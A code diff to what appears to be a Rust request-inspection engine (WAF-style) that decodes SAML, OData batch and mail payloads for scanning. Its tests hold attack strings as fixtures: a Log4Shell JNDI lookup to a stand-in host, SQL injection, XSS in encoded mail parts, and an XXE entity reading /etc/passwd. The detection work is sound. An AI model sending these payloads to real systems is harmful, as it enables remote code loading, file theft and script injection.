@@ -955,15 +955,29 @@ fn saml_redirect(c: &mut Collector<'_>, value: &[u8], label: &str) {
     if c.full() {
         return;
     }
-    let Ok(deflated) = EMBEDDED_BASE64.decode(value.trim_ascii()) else {
+    // Decoded as leniently as identity providers do: a `+` the client left unencoded
+    // (read as a space), the URL-safe alphabet, and line breaks and other bytes outside the
+    // alphabet skipped.
+    let text: Vec<u8> = value
+        .iter()
+        .filter_map(|&b| match b {
+            b' ' => Some(b'+'),
+            b'-' => Some(b'+'),
+            b'_' => Some(b'/'),
+            b'+' | b'/' => Some(b),
+            b if b.is_ascii_alphanumeric() => Some(b),
+            _ => None,
+        })
+        .collect();
+    let Ok(deflated) = EMBEDDED_BASE64.decode(text) else {
         return;
     };
-    // Past the cap, what was inflated is read: a DTD comes first, padding cannot push it out.
+    // What was inflated before the cap or a broken stream is read too, as streaming parsers
+    // read it: a DTD comes first, and neither padding nor a cut stream hides it.
     let doc = match miniz_oxide::inflate::decompress_to_vec_with_limit(&deflated, SAML_INFLATED_MAX)
     {
         Ok(doc) => doc,
-        Err(e) if e.status == miniz_oxide::inflate::TINFLStatus::HasMoreOutput => e.output,
-        Err(_) => return,
+        Err(e) => e.output,
     };
     if doc.trim_ascii_start().first() == Some(&b'<') {
         xml_declarations(c, &doc, &format!("{label}:deflate"));
@@ -1209,38 +1223,43 @@ fn inspected_headers<'a>(
 
 fn headers(c: &mut Collector<'_>, req: &RequestView<'_>) {
     for (name, value) in inspected_headers(req) {
-        let kind =
-            if name.eq_ignore_ascii_case(b"user-agent") || name.eq_ignore_ascii_case(b"referer") {
-                Kind::TextHeader
-            } else if name.eq_ignore_ascii_case(b"x-original-url")
-                || name.eq_ignore_ascii_case(b"x-rewrite-url")
-            {
-                // Frameworks that honour these (IIS, Symfony, Laminas) route by them instead
-                // of the request line: they are inspected as the path they become.
-                Kind::HeaderPath
-            } else if structured_header(name) {
-                Kind::OtherHeader
-            } else {
-                Kind::HeaderValue
-            };
-        c.offer(kind, value, false, false, |l| {
-            l.push_str("header:");
-            let start = l.len();
-            push_label_part(l, name);
-            l[start..].make_ascii_lowercase();
-        });
-        // An application's header holding a JSON document (`X-Filter: {"owner":{"$ne":null}}`)
-        // is parsed by the application: its keys and strings are read as a body's are, under
-        // `header:NAME:/path`.
-        if kind == Kind::HeaderValue
-            && matches!(value.trim_ascii_start().first(), Some(b'{' | b'['))
-            && !c.full()
-        {
-            let mut prefix = String::from("header:");
-            push_label_part(&mut prefix, name);
-            prefix.make_ascii_lowercase();
-            json_walk(c, value, &prefix);
-        }
+        header(c, name, value);
+    }
+}
+
+/// One header field of the request, or of a request inside a batch, as `header:NAME`.
+fn header(c: &mut Collector<'_>, name: &[u8], value: &[u8]) {
+    let kind = if name.eq_ignore_ascii_case(b"user-agent") || name.eq_ignore_ascii_case(b"referer")
+    {
+        Kind::TextHeader
+    } else if name.eq_ignore_ascii_case(b"x-original-url")
+        || name.eq_ignore_ascii_case(b"x-rewrite-url")
+    {
+        // Frameworks that honour these (IIS, Symfony, Laminas) route by them instead
+        // of the request line: they are inspected as the path they become.
+        Kind::HeaderPath
+    } else if structured_header(name) {
+        Kind::OtherHeader
+    } else {
+        Kind::HeaderValue
+    };
+    c.offer(kind, value, false, false, |l| {
+        l.push_str("header:");
+        let start = l.len();
+        push_label_part(l, name);
+        l[start..].make_ascii_lowercase();
+    });
+    // An application's header holding a JSON document (`X-Filter: {"owner":{"$ne":null}}`)
+    // is parsed by the application: its keys and strings are read as a body's are, under
+    // `header:NAME:/path`.
+    if kind == Kind::HeaderValue
+        && matches!(value.trim_ascii_start().first(), Some(b'{' | b'['))
+        && !c.full()
+    {
+        let mut prefix = String::from("header:");
+        push_label_part(&mut prefix, name);
+        prefix.make_ascii_lowercase();
+        json_walk(c, value, &prefix);
     }
 }
 
@@ -1771,11 +1790,59 @@ impl<'de> serde::de::Visitor<'de> for JsonKey<'_, '_> {
     }
 }
 
-/// A bounded multipart/form-data reader: finds `--boundary` delimiters, reads each part's
-/// headers (Content-Disposition name and filename) and its content.
-/// `form_data`: the body is `multipart/form-data`, whose parts must name themselves
-/// (RFC 7578); the parts of `multipart/related` (SOAP with attachments) and `multipart/mixed`
-/// need not, and may declare a transfer encoding.
+/// A mail part's or message's text decoded from its `Content-Transfer-Encoding`: quoted-
+/// printable (`=3C` is `<`, `=` ending a line joins it to the next) or base64 (bytes outside
+/// the alphabet skipped, as mail readers skip them); `None` for any other encoding, whose
+/// text is read as it is.
+fn transfer_decoded(encoding: &[u8], content: &[u8]) -> Option<Vec<u8>> {
+    use base64::Engine as _;
+    let encoding = encoding.trim_ascii();
+    if encoding.eq_ignore_ascii_case(b"base64") {
+        let text: Vec<u8> = content
+            .iter()
+            .copied()
+            .filter(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/'))
+            .collect();
+        return EMBEDDED_BASE64.decode(text).ok();
+    }
+    if !encoding.eq_ignore_ascii_case(b"quoted-printable") {
+        return None;
+    }
+    let hex = |b: u8| (b as char).to_digit(16);
+    let mut out = Vec::with_capacity(content.len());
+    let mut i = 0;
+    while i < content.len() {
+        let b = content[i];
+        if b != b'=' {
+            out.push(b);
+            i += 1;
+        } else if content[i + 1..].starts_with(b"\r\n") {
+            i += 3;
+        } else if content[i + 1..].starts_with(b"\n") {
+            i += 2;
+        } else if let (Some(h), Some(l)) = (
+            content.get(i + 1).and_then(|&c| hex(c)),
+            content.get(i + 2).and_then(|&c| hex(c)),
+        ) {
+            out.push((h * 16 + l) as u8);
+            i += 3;
+        } else {
+            out.push(b);
+            i += 1;
+        }
+    }
+    Some(out)
+}
+
+/// The `boundary` parameter of a multipart media type's parameters, when usable (not empty,
+/// at most 200 bytes).
+fn boundary_of(params: Vec<(String, String)>) -> Option<String> {
+    params
+        .into_iter()
+        .find(|(k, v)| k == "boundary" && !v.is_empty() && v.len() <= 200)
+        .map(|(_, v)| v)
+}
+
 /// A header block and what follows its blank line (CR LF or LF alone, whichever comes
 /// first), or `None` when there is no blank line.
 fn head_and_body(part: &[u8]) -> Option<(&[u8], &[u8])> {
@@ -1798,8 +1865,14 @@ enum Framing {
     Mail,
 }
 
-/// `nested`: a multipart body inside a part of another (a changeset of OData's `$batch`, a
-/// mail's alternative texts), whose parts are not read for further nesting.
+/// A bounded multipart reader: finds `--boundary` delimiters, reads each part's headers
+/// (Content-Disposition name and filename) and its content. With [`Framing::Form`] the body
+/// is `multipart/form-data`, whose parts must name themselves (RFC 7578); the parts of
+/// `multipart/related` (SOAP with attachments) and `multipart/mixed` need not, and may
+/// declare a binary transfer encoding; a mail's may be quoted-printable or base64, which is
+/// decoded, and a mail may have a preamble before its first boundary. `nested`: a multipart
+/// body inside a part of another (a changeset of OData's `$batch`, a mail's alternative
+/// texts), whose parts are not read for further nesting.
 fn multipart(c: &mut Collector<'_>, body: &[u8], boundary: &[u8], framing: Framing, nested: bool) {
     let mut delim = Vec::with_capacity(boundary.len() + 2);
     delim.extend_from_slice(b"--");
@@ -1814,8 +1887,9 @@ fn multipart(c: &mut Collector<'_>, body: &[u8], boundary: &[u8], framing: Frami
         c.push("body".to_owned(), Kind::Body, body.to_vec(), false, false);
         return;
     };
-    if body[..first].iter().any(|b| !b.is_ascii_whitespace()) {
+    if framing != Framing::Mail && body[..first].iter().any(|b| !b.is_ascii_whitespace()) {
         // Content before the first boundary is ignored by some parsers and not by others.
+        // A mail has a preamble there by design ("This is a multi-part message ...").
         c.anomaly(rules::PROTO_MULTIPART, "body", "data before first boundary");
     }
     let mut closed = false;
@@ -1882,6 +1956,8 @@ fn multipart_part(
     let mut filename: Option<Vec<u8>> = None;
     let mut part_ct: Option<String> = None;
     let mut part_boundary: Option<String> = None;
+    // A mail part's quoted-printable or base64 text, decoded.
+    let mut decoded: Option<Vec<u8>> = None;
     let mut dispositions = 0;
     for line in head.split(|&b| b == b'\n').take(32) {
         let line = line.strip_suffix(b"\r").unwrap_or(line);
@@ -1911,11 +1987,10 @@ fn multipart_part(
                     "part charset not readable",
                 );
             }
-            part_boundary = params
-                .into_iter()
-                .find(|(k, v)| k == "boundary" && !v.is_empty() && v.len() <= 200)
-                .map(|(_, v)| v);
+            part_boundary = boundary_of(params);
             part_ct = Some(mt);
+        } else if hname == b"content-transfer-encoding" && framing == Framing::Mail {
+            decoded = transfer_decoded(hvalue, content);
         } else if hname == b"content-transfer-encoding"
             && (form_data
                 || (framing != Framing::Mail
@@ -1924,7 +1999,7 @@ fn multipart_part(
                         .any(|e| hvalue.eq_ignore_ascii_case(e.as_bytes()))))
         {
             // Deprecated for form data (RFC 7578 section 4.7); base64 or quoted-printable
-            // hides the content from inspection. In mail they are the rule.
+            // hides the content from inspection. In mail they are the rule, and decoded.
             c.anomaly(
                 rules::PROTO_MULTIPART_CHARSET,
                 "multipart",
@@ -1948,6 +2023,7 @@ fn multipart_part(
         );
     }
     c.out.arg_count += 1;
+    let content = decoded.as_deref().unwrap_or(content);
     let field = name.as_deref().map(label_part).unwrap_or_default();
     if name.as_deref() == Some(b"_charset_".as_slice())
         && !readable_charset(&String::from_utf8_lossy(content))
@@ -2038,9 +2114,10 @@ fn multipart_part(
         // a changeset of them one level down.
         Some("application/http") if !form_data && embedded_request(c, content) => {}
         // A mail's delivery report and the header block of a returned message are header
-        // fields by design; a forwarded message's text is read without its header block.
+        // fields by design (one with markup in it is read as text); a forwarded message's
+        // text is read without its header block.
         Some("message/delivery-status" | "text/rfc822-headers" | "message/rfc822-headers")
-            if framing == Framing::Mail => {}
+            if framing == Framing::Mail && memchr::memchr(b'<', content).is_none() => {}
         Some("message/rfc822") if framing == Framing::Mail => {
             let text = head_and_body(content).map_or(content, |(_, text)| text);
             c.push(
@@ -2078,35 +2155,62 @@ fn multipart_part(
 /// as text.
 fn mail_message(c: &mut Collector<'_>, msg: &[u8]) {
     let (head, body) = head_and_body(msg).unwrap_or((&b""[..], msg));
-    // The Content-Type field, with its folded lines (`;\r\n\tboundary="b1"`) joined.
-    let mut content_type: Option<Vec<u8>> = None;
-    let mut in_content_type = false;
+    // The Content-Type and Subject fields, with their folded lines (`;\r\n\tboundary="b1"`)
+    // joined. The subject is text a help desk shows as a ticket's title.
+    let (mut content_type, mut subject): (Option<Vec<u8>>, Option<Vec<u8>>) = (None, None);
+    let mut encoding: Option<&[u8]> = None;
+    let mut current: Option<bool> = None;
     for line in head.split(|&b| b == b'\n').take(256) {
         let line = line.strip_suffix(b"\r").unwrap_or(line);
+        let field = match current {
+            Some(true) => content_type.as_mut(),
+            Some(false) => subject.as_mut(),
+            None => None,
+        };
         if line.first().is_some_and(|b| *b == b' ' || *b == b'\t') {
-            if in_content_type && let Some(ct) = content_type.as_mut() {
-                ct.extend_from_slice(line);
+            if let Some(f) = field {
+                f.extend_from_slice(line);
             }
             continue;
         }
-        in_content_type = line
-            .get(..13)
-            .is_some_and(|n| n.eq_ignore_ascii_case(b"content-type:"));
-        if in_content_type && content_type.is_none() {
+        let named = |n: &[u8]| {
+            line.get(..n.len())
+                .is_some_and(|h| h.eq_ignore_ascii_case(n))
+        };
+        current = None;
+        if named(b"content-type:") && content_type.is_none() {
             content_type = Some(line[13..].to_vec());
+            current = Some(true);
+        } else if named(b"subject:") && subject.is_none() {
+            subject = Some(line[8..].to_vec());
+            current = Some(false);
+        } else if named(b"content-transfer-encoding:") {
+            encoding = Some(&line[26..]);
         }
+    }
+    if let Some(s) = subject {
+        c.push(
+            "mail:subject".to_owned(),
+            Kind::Value,
+            s.trim_ascii().to_vec(),
+            false,
+            false,
+        );
     }
     let boundary = content_type.as_deref().and_then(|ct| {
         let (mt, params) = media_type(ct);
         mt.starts_with("multipart/")
-            .then(|| params.into_iter().find(|(k, _)| k == "boundary"))
+            .then(|| boundary_of(params))
             .flatten()
-            .map(|(_, v)| v)
-            .filter(|b| !b.is_empty() && b.len() <= 200)
     });
     match boundary {
         Some(b) => multipart(c, body, b.as_bytes(), Framing::Mail, false),
-        None => c.push("body".to_owned(), Kind::Body, body.to_vec(), false, false),
+        None => {
+            let text = encoding
+                .and_then(|e| transfer_decoded(e, body))
+                .unwrap_or_else(|| body.to_vec());
+            c.push("body".to_owned(), Kind::Body, text, false, false);
+        }
     }
 }
 
@@ -2138,16 +2242,37 @@ fn embedded_request(c: &mut Collector<'_>, content: &[u8]) -> bool {
     if let Some(q) = query {
         urlencoded(c, q, "query", true);
     }
-    let rest = &content[line_end..];
-    let (head, body) = head_and_body(rest).unwrap_or((rest, &b""[..]));
+    let rest = content[line_end..]
+        .strip_prefix(b"\n")
+        .unwrap_or(&content[line_end..]);
+    // No header fields: the blank line follows the request line.
+    let (head, body) = match rest
+        .strip_prefix(b"\r\n")
+        .or_else(|| rest.strip_prefix(b"\n"))
+    {
+        Some(body) => (&b""[..], body),
+        None => head_and_body(rest).unwrap_or((rest, &b""[..])),
+    };
+    // Its header fields reach the application as a request's do (a `User-Agent` with a
+    // lookup in it); the batch's framing ones are left out as the request's own are.
+    let mut json_body = false;
+    for line in head.split(|&b| b == b'\n').take(64) {
+        let Some(i) = memchr::memchr(b':', line) else {
+            continue;
+        };
+        let (name, value) = (line[..i].trim_ascii(), line[i + 1..].trim_ascii());
+        if name.eq_ignore_ascii_case(b"content-type") {
+            json_body = media_type(value).0.ends_with("json");
+        }
+        if !SKIPPED_HEADERS
+            .iter()
+            .any(|h| name.eq_ignore_ascii_case(h.as_bytes()))
+        {
+            header(c, name, value);
+        }
+    }
     let body = body.trim_ascii();
     if !body.is_empty() {
-        let json_body = head.split(|&b| b == b'\n').any(|l| {
-            memchr::memchr(b':', l).is_some_and(|i| {
-                l[..i].trim_ascii().eq_ignore_ascii_case(b"content-type")
-                    && media_type(&l[i + 1..]).0.ends_with("json")
-            })
-        });
         if json_body {
             json(c, body, "json");
         } else {
@@ -2635,51 +2760,158 @@ fn event_handler(name: &str) -> bool {
         && name[2..].bytes().all(|b| b.is_ascii_alphabetic())
 }
 
-/// Elements of HTML and SVG that render or run something, by the last name of an XML
-/// element path (`Observation/text/div/img`), without a namespace prefix, sorted.
+/// Elements of HTML and SVG (and MathML's root), by the last name of an XML element path
+/// (`Observation/text/div/img`), without a namespace prefix, sorted.
 const HTML_ELEMENTS: &[&str] = &[
     "a",
+    "abbr",
+    "address",
     "animate",
     "animatemotion",
     "animatetransform",
     "area",
+    "article",
+    "aside",
     "audio",
+    "b",
+    "base",
+    "bdi",
+    "bdo",
+    "blockquote",
     "body",
+    "br",
     "button",
+    "canvas",
+    "caption",
+    "circle",
+    "cite",
+    "clippath",
+    "code",
+    "col",
+    "colgroup",
+    "data",
+    "datalist",
+    "dd",
+    "defs",
+    "del",
     "details",
+    "dfn",
     "dialog",
     "div",
+    "dl",
+    "dt",
+    "ellipse",
+    "em",
     "embed",
+    "feimage",
     "fieldset",
+    "figcaption",
+    "figure",
+    "filter",
+    "font",
+    "footer",
+    "foreignobject",
     "form",
     "frame",
     "frameset",
+    "g",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "head",
+    "header",
+    "hr",
+    "html",
+    "i",
     "iframe",
     "image",
     "img",
     "input",
+    "ins",
+    "kbd",
     "keygen",
+    "label",
+    "legend",
     "li",
+    "line",
+    "lineargradient",
     "link",
+    "main",
+    "map",
+    "mark",
+    "marker",
     "marquee",
+    "mask",
     "math",
+    "menu",
     "meta",
+    "meter",
+    "nav",
+    "noscript",
     "object",
+    "ol",
+    "optgroup",
+    "option",
+    "output",
     "p",
+    "param",
+    "path",
+    "pattern",
+    "picture",
+    "polygon",
+    "polyline",
+    "pre",
+    "progress",
+    "q",
+    "radialgradient",
+    "rect",
+    "rp",
+    "rt",
+    "ruby",
+    "s",
+    "samp",
     "script",
     "section",
     "select",
     "set",
+    "slot",
+    "small",
     "source",
     "span",
+    "stop",
+    "strong",
     "style",
+    "sub",
+    "summary",
+    "sup",
     "svg",
+    "switch",
+    "symbol",
     "table",
+    "tbody",
     "td",
+    "template",
+    "text",
     "textarea",
+    "textpath",
+    "tfoot",
+    "th",
+    "thead",
+    "time",
+    "title",
+    "tr",
     "track",
+    "tspan",
+    "u",
+    "ul",
     "use",
+    "var",
     "video",
+    "view",
+    "wbr",
 ];
 
 /// Whether the last element of an XML element path is one of [`HTML_ELEMENTS`].
@@ -2707,27 +2939,18 @@ fn xml_attributes(c: &mut Collector<'_>, mut a: &[u8], element: &str) {
         let value = &rest[1..1 + close];
         // An event handler on an HTML or SVG element (the XHTML narrative of a FHIR resource,
         // markup in a feed or a document format): whatever renders the element runs it.
+        let label = format!("xml:/{element}@{name}");
         if event_handler(&name) && html_element(element) && !value.trim_ascii().is_empty() {
-            c.anomaly(
-                rules::XSS_EVENT_HANDLER,
-                &format!("xml:/{element}@{name}"),
-                &name,
-            );
+            c.anomaly(rules::XSS_EVENT_HANDLER, &label, &name);
         }
         c.push(
-            format!("xml:/{element}@{name}"),
+            label.clone(),
             Kind::Name,
             name.as_bytes().to_vec(),
             false,
             false,
         );
-        c.push(
-            format!("xml:/{element}@{name}"),
-            Kind::Value,
-            value.to_vec(),
-            false,
-            false,
-        );
+        c.push(label, Kind::Value, value.to_vec(), false, false);
         a = &rest[close + 2..];
     }
 }
@@ -3009,7 +3232,7 @@ mod tests {
     fn batches_of_requests_and_mail_messages() {
         // OData's `$batch`: a GET, then a changeset with a PATCH; the framing is no header
         // injection, and each request is read as one.
-        let batch = "--batch_1\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\nGET Products?$filter=Name%20eq%20'x''%20or%201%3D1--'&$top=5 HTTP/1.1\r\nAccept: application/json\r\n\r\n\r\n--batch_1\r\nContent-Type: multipart/mixed; boundary=cs_1\r\n\r\n--cs_1\r\nContent-Type: application/http\r\nContent-ID: 1\r\n\r\nPATCH Products(77) HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"Description\":\"<script>alert(1)</script>\"}\r\n--cs_1--\r\n--batch_1--\r\n";
+        let batch = "--batch_1\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\nGET Products?$filter=Name%20eq%20'x''%20or%201%3D1--'&$top=5 HTTP/1.1\r\nAccept: application/json\r\nUser-Agent: ${jndi:ldap://e.example/a}\r\n\r\n\r\n--batch_1\r\nContent-Type: multipart/mixed; boundary=cs_1\r\n\r\n--cs_1\r\nContent-Type: application/http\r\nContent-ID: 1\r\n\r\nPATCH Products(77) HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"Description\":\"<script>alert(1)</script>\"}\r\n--cs_1--\r\n--batch_1--\r\n";
         let req = RequestView::new("POST", b"/odata/$batch")
             .header("Content-Type", "multipart/mixed; boundary=batch_1")
             .body(batch.as_bytes());
@@ -3024,9 +3247,25 @@ mod tests {
             "<script>alert(1)</script>".into()
         )));
         assert!(labels(&x, Kind::Path).contains(&("path".into(), "Products(77)".into())));
+        // Its header fields too, as a request's.
+        assert!(labels(&x, Kind::TextHeader).contains(&(
+            "header:user-agent".into(),
+            "${jndi:ldap://e.example/a}".into()
+        )));
         assert!(
             !vals.iter().any(|(_, v)| v.contains("HTTP/1.1")),
             "{vals:?}"
+        );
+        // A request without header fields has its body read all the same.
+        let bare = "--b\r\nContent-Type: application/http\r\n\r\nPOST /orders HTTP/1.1\r\n\r\nid=1' or '1'='1\r\n--b--\r\n";
+        let req = RequestView::new("POST", b"/batch")
+            .header("Content-Type", "multipart/mixed; boundary=b")
+            .body(bare.as_bytes());
+        let x = extract(&req, &Limits::default(), None);
+        assert!(
+            labels(&x, Kind::Body).contains(&("body".into(), "id=1' or '1'='1".into())),
+            "{:?}",
+            labels(&x, Kind::Body)
         );
         // A part that is no request is read as before.
         let odd = "--b\r\nContent-Type: application/http\r\n\r\nnot a request line\r\n--b--\r\n";
@@ -3053,10 +3292,30 @@ mod tests {
             "{vals:?}"
         );
         assert!(vals.contains(&"See you".to_owned()));
+        assert!(vals.contains(&"Hi".to_owned()), "{vals:?}");
         assert!(
             !vals
                 .iter()
                 .any(|v| v.contains("Status:") || v.contains("From:"))
+        );
+        assert!(x.anomalies.is_empty(), "{:?}", x.anomalies);
+        // A preamble is no anomaly in mail; quoted-printable and base64 parts are decoded.
+        let mail = "Content-Type: multipart/alternative; boundary=m\r\n\r\nThis is a multi-part message in MIME format.\r\n--m\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<img src=3Dx one=\r\nrror=3Dalert(1)>\r\n--m\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD5h\r\nbGVydCgxKTwv\r\nc2NyaXB0Pg==\r\n--m--\r\n";
+        let req = RequestView::new("POST", b"/inbound")
+            .header("Content-Type", "message/rfc822")
+            .body(mail.as_bytes());
+        let x = extract(&req, &Limits::default(), None);
+        let vals: Vec<String> = labels(&x, Kind::Value)
+            .into_iter()
+            .map(|(_, v)| v)
+            .collect();
+        assert!(
+            vals.contains(&"<img src=x onerror=alert(1)>".to_owned()),
+            "{vals:?}"
+        );
+        assert!(
+            vals.contains(&"<script>alert(1)</script>".to_owned()),
+            "{vals:?}"
         );
         assert!(x.anomalies.is_empty(), "{:?}", x.anomalies);
         // A message that is not multipart is its text.
@@ -3072,6 +3331,7 @@ mod tests {
 
     #[test]
     fn event_handlers_on_html_elements_of_xml_documents() {
+        assert!(HTML_ELEMENTS.windows(2).all(|w| w[0] < w[1]));
         let handlers = |xml: &str| {
             anomaly_labels(
                 "application/fhir+xml",
@@ -3088,6 +3348,12 @@ mod tests {
         assert_eq!(
             handlers(r#"<doc><h:body xmlns:h="http://www.w3.org/1999/xhtml" onLoad="x()"/></doc>"#),
             ["xml:/doc/h:body@onLoad"]
+        );
+        assert_eq!(
+            handlers(
+                r#"<text><h1 onmouseover="x()">T</h1><svg><g><rect onclick="y()"/></g></svg></text>"#
+            ),
+            ["xml:/text/h1@onmouseover", "xml:/text/svg/g/rect@onclick"]
         );
         // Data elements with such attribute names, and empty handlers, are data.
         for xml in [
@@ -3455,6 +3721,22 @@ mod tests {
         assert!(decl[0].1.contains("<!ENTITY x SYSTEM"));
         // An ordinary request has no declaration; neither has a value that does not inflate.
         assert!(request("<samlp:AuthnRequest ID=\"a1\"/>").is_empty());
+        // A `+` left unencoded (read as a space) is still base64's.
+        let xxe = r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
+        let plus = (0..64)
+            .map(|i| format!("{xxe}<!-- {i} -->"))
+            .find(|x| deflate(x).contains("%2B"))
+            .expect("a deflated form with a `+`");
+        let target = format!(
+            "/idp/SSO?SAMLRequest={}",
+            deflate(&plus).replace("%2B", "+")
+        );
+        let x = extract(
+            &RequestView::new("GET", target.as_bytes()),
+            &Limits::default(),
+            None,
+        );
+        assert_eq!(labels(&x, Kind::Declaration).len(), 1);
         let req = RequestView::new("GET", b"/idp/SSO?SAMLRequest=bm90IGRlZmxhdGVkIGF0IGFsbA");
         assert!(labels(&extract(&req, &Limits::default(), None), Kind::Declaration).is_empty());
         // Inflating stops at its cap, and the declarations before it are read: padding after
